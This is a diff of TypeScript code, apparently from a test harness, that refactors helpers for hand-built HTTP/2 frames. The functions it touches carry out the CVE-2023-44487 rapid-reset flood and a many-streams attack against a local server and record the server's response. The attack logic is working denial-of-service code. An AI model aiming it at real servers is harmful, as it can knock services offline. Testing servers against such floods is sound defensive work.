@@ -89,6 +89,26 @@ export interface FloodResult {
   sent: number;
 }
 
+/** One raw HTTP/2 frame (RFC 9113 §4.1): 9-octet header, then the payload. */
+function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
+  const head = Buffer.alloc(9);
+  head.writeUIntBE(payload.length, 0, 3);
+  head[3] = type;
+  head[4] = flags;
+  head.writeUInt32BE(stream, 5);
+  return Buffer.concat([head, payload]);
+}
+
+/** The connection preface and an empty SETTINGS frame. */
+function clientPreface(): Buffer {
+  return Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(0x4, 0, 0, Buffer.alloc(0))]);
+}
+
+/** HPACK block for `<method> https://localhost/`: the given static :method index, :scheme https (7), :path / (4), :authority literal (name 1). */
+function hpackRequest(method: number): Buffer {
+  return Buffer.concat([Buffer.from([method, 0x87, 0x84, 0x01, 0x09]), Buffer.from('localhost')]);
+}
+
 /**
  * The rapid-reset attack (CVE-2023-44487) written frame by frame, as an attacker would: open a
  * stream (HEADERS with END_STREAM, `GET /`) and cancel it (RST_STREAM CANCEL) right away, in
@@ -100,16 +120,7 @@ export function rapidResetFlood(port: number, ca: string, streams: number): Prom
     let sent = 0;
     let goaway: number | null = null;
     let inbox = Buffer.alloc(0);
-    const frame = (type: number, flags: number, stream: number, payload: Buffer) => {
-      const head = Buffer.alloc(9);
-      head.writeUIntBE(payload.length, 0, 3);
-      head[3] = type;
-      head[4] = flags;
-      head.writeUInt32BE(stream, 5);
-      return Buffer.concat([head, payload]);
-    };
-    // HPACK: :method GET (static 2), :scheme https (7), :path / (4), :authority literal (name 1).
-    const headerBlock = Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x01, 0x09]), Buffer.from('localhost')]);
+    const headerBlock = hpackRequest(0x82); // :method GET (static 2)
     const cancel = Buffer.alloc(4);
     cancel.writeUInt32BE(0x8, 0);
     const finish = () => resolve({ goaway, closed: true, sent });
@@ -125,7 +136,7 @@ export function rapidResetFlood(port: number, ca: string, streams: number): Prom
     socket.on('close', finish);
     socket.on('error', () => undefined);
     socket.once('secureConnect', () => {
-      socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(0x4, 0, 0, Buffer.alloc(0))]));
+      socket.write(clientPreface());
       let id = 1;
       const batch = () => {
         if (socket.destroyed || !socket.writable) return;
@@ -160,16 +171,7 @@ export function openManyStreams(
     let maxConcurrentStreams: number | null = null;
     let inbox = Buffer.alloc(0);
     let opened = false;
-    const frame = (type: number, flags: number, stream: number, payload: Buffer) => {
-      const head = Buffer.alloc(9);
-      head.writeUIntBE(payload.length, 0, 3);
-      head[3] = type;
-      head[4] = flags;
-      head.writeUInt32BE(stream, 5);
-      return Buffer.concat([head, payload]);
-    };
-    // HPACK: :method POST (static 3), :scheme https (7), :path / (4), :authority literal (name 1).
-    const headerBlock = Buffer.concat([Buffer.from([0x83, 0x87, 0x84, 0x01, 0x09]), Buffer.from('localhost')]);
+    const headerBlock = hpackRequest(0x83); // :method POST (static 3)
     const open = () => {
       opened = true;
       const frames: Buffer[] = [frame(0x4, 0x1, 0, Buffer.alloc(0))]; // SETTINGS ACK
@@ -200,6 +202,6 @@ export function openManyStreams(
       }
     });
     socket.on('error', () => undefined);
-    socket.once('secureConnect', () => socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(0x4, 0, 0, Buffer.alloc(0))])));
+    socket.once('secureConnect', () => socket.write(clientPreface()));
   });
 }
